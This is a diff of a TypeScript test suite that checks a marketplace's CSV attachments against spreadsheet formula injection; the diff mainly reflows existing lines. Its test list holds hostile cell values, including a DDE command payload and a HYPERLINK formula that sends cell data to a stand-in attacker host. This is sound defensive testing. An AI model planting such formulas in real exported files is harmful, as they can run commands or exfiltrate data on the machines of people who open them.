@@ -7,12 +7,25 @@ import { fromRoot } from '../../scripts/toolchain/paths.mjs';
 import { csvAttachment } from '../../marketplace/mail/csv-attachment.ts';
 
 /** Beginnings that a spreadsheet runs, and one that breaks out of a cell to begin another. */
-const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("https://evil.example?"&A1,"Open")', '\uFF1D1+1', 'x",=1+1', 'x\r\n=1+1'];
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?"&A1,"Open")',
+  '\uFF1D1+1',
+  'x",=1+1',
+  'x\r\n=1+1',
+];
 
 /** The cells of a CSV text, as a spreadsheet reads them. */
 function cellsOf(csv: string): string[] {
   const cells: string[] = [];
-  for (const [, quoted, bare] of csv.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/g)) cells.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
+  for (const [, quoted, bare] of csv.replace(/^\uFEFF/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n|$)/g))
+    cells.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
   return cells;
 }
 
@@ -26,11 +39,20 @@ describe('a CSV file', () => {
     const cells = cellsOf(csv);
     assert.equal(cells.filter((cell) => cell === 'plain').length, FORMULAS.length);
     for (const cell of cells) assert.ok(!/^[=+\-@\t\r\uFF0B\uFF0D\uFF1D\uFF20]/.test(cell), JSON.stringify(cell));
-    for (const formula of FORMULAS) assert.ok(cells.some((cell) => cell.endsWith(formula)), JSON.stringify(formula));
+    for (const formula of FORMULAS)
+      assert.ok(
+        cells.some((cell) => cell.endsWith(formula)),
+        JSON.stringify(formula),
+      );
   });
 
   test('is written in one place', () => {
-    const sources = readdirSync(fromRoot('marketplace'), { recursive: true, encoding: 'utf8' }).filter((file) => file.endsWith('.ts'));
-    assert.deepEqual(sources.filter((file) => readFileSync(fromRoot('marketplace', file), 'utf8').includes("from 'csv-stringify")), ['csv.ts']);
+    const sources = readdirSync(fromRoot('marketplace'), { recursive: true, encoding: 'utf8' }).filter((file) =>
+      file.endsWith('.ts'),
+    );
+    assert.deepEqual(
+      sources.filter((file) => readFileSync(fromRoot('marketplace', file), 'utf8').includes("from 'csv-stringify")),
+      ['csv.ts'],
+    );
   });
 });
